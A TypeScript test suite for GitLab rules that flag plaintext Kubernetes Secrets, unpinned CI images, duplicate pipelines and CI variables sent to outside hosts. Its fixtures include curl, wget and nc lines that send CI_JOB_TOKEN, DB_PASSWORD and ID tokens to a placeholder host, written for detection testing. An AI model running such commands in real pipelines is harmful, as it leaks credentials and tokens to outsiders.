import { describeRule } from "../support/describe-rule";
import { file, project } from "../support/gitlab";
import { CANARY, UNKNOWN } from "../support/resources";

const ci = (content: string, filePath = ".gitlab-ci.yml") => file({ filePath, content }, { name: filePath });
const unknown = {
  "its content": [file({ filePath: ".gitlab-ci.yml", content: UNKNOWN }), "content"],
} as const;

const SECRET = `apiVersion: v1\nkind: Secret\nmetadata: {name: db}\nstringData: {password: ${CANARY}}\n`;

describeRule("gitlab-file-no-secret", {
  violates: {
    "a Secret": [
      ci(`kind: Namespace\n---\n${SECRET}`, "apps/db.yaml"),
      "apps/db.yaml holds a Kubernetes Secret that is not encrypted",
    ],
    "in base64": [
      file({ filePath: "db.yaml", encoding: "base64", content: Buffer.from(SECRET).toString("base64") }),
      "db.yaml holds a Kubernetes Secret",
    ],
    "a private key": [ci(`-----BEGIN OPENSSH PRIVATE KEY-----\n${CANARY}`, "id"), "id holds a private key"],
  },
  passes: {
    nothing: file(),
    "an encrypted Secret": ci(`${SECRET}sops: {mac: x}\n`, "apps/db.yaml"),
    "a Secret without content": ci("kind: Secret\nmetadata: {name: a}\n", "apps/db.yaml"),
  },
  unknown: { "its content": [file({ content: UNKNOWN }), "content"] },
});

const COMPONENT =
  "spec:\n  inputs:\n    image: {default: sopsloop:latest}\n---\njob:\n  image: $[[ inputs.image ]]\n";

describeRule("gitlab-ci-pinned-image", {
  violates: {
    latest: [ci("job: {image: 'a/b:latest'}"), "runs a/b:latest"],
    "no tag": [ci("job: {image: {name: 'localhost:5000/a'}}"), "runs localhost:5000/a"],
    "the default of what it includes": [
      [ci("include: [{local: .gitlab/x.yml}]"), ci(COMPONENT, ".gitlab/x.yml")],
      "runs sopsloop:latest, which can become another image",
    ],
  },
  passes: {
    "a version": ci("job: {image: 'a/b:1.2'}"),
    "a digest": ci(`job: {image: 'a@sha256:${"0".repeat(64)}'}`),
    "handed to what it includes": [
      ci("include: [{local: .gitlab/x.yml, inputs: {image: 'a:1'}}]"),
      ci(COMPONENT, ".gitlab/x.yml"),
    ],
    "no CI file": file(),
  },
  unknown: { ...unknown, "what kind of file it is": [ci(UNKNOWN, "ci/build.yml"), "content"] },
});

const BOTH =
  "job: {script: make, rules: [{if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"'}, {if: '$CI_COMMIT_BRANCH'}]}\n";

describeRule("gitlab-ci-one-pipeline", {
  violates: {
    "for branches and merge requests": [ci(BOTH), "say in workflow: rules when there is one"],
    "in a file of another name": [
      [project({ ciConfigPath: "ci/build.yml" }), ci(BOTH, "ci/build.yml")],
      "starts two pipelines",
    ],
  },
  passes: {
    "with workflow rules": ci(`workflow: {rules: [{if: $CI_COMMIT_BRANCH}]}\n${BOTH}`),
    "for merge requests only": ci(
      "job: {script: make, rules: [{if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"'}]}",
    ),
    "what is included": ci(BOTH, ".gitlab/x.yml"),
  },
  unknown,
});

const SENDING = 'job: {script: ["curl https://a?t=$CI_JOB_TOKEN"]}';

describeRule("gitlab-ci-no-variables-sent", {
  violates: {
    "by curl": [
      ci('job: {script: ["curl -H \\"Job-Token: $CI_JOB_TOKEN\\" https://a"]}'),
      "sends CI_JOB_TOKEN away in a script",
    ],
    "in a list of lists": [
      ci('job: {before_script: [["wget -q https://a?x=$DB_PASSWORD"]]}'),
      "sends DB_PASSWORD away",
    ],
    "an ID token of any name": [
      ci('job: {script: ["curl -d \\"$AZURE_ID_TOKEN\\" https://a", "nc a 1 <<< $STATE_ID_TOKEN"]}'),
      "sends AZURE_ID_TOKEN away",
      "sends STATE_ID_TOKEN away",
    ],
    "in a file of another name, which a file of somebody's includes": [
      ci(SENDING, "ci/build.yml"),
      "ci/build.yml: sends CI_JOB_TOKEN away",
    ],
  },
  passes: {
    "a fetch": ci('job: {script: ["curl -O https://example.com/$CI_COMMIT_SHA"]}'),
    "a tool of its own": ci('job: {script: ["sopsloop rewrap --push"]}'),
    "no CI file": file(),
    "YAML of another kind": ci(`apiVersion: example.com/v1\n${SENDING}`, "apps/job.yml"),
    "what is no YAML, and need not be": ci("{{ a }}: [", "charts/a/templates/b.yaml"),
    "a setting that is no secret": ci('job: {script: ["curl $TOKEN_URL"]}'),
  },
  unknown,
});
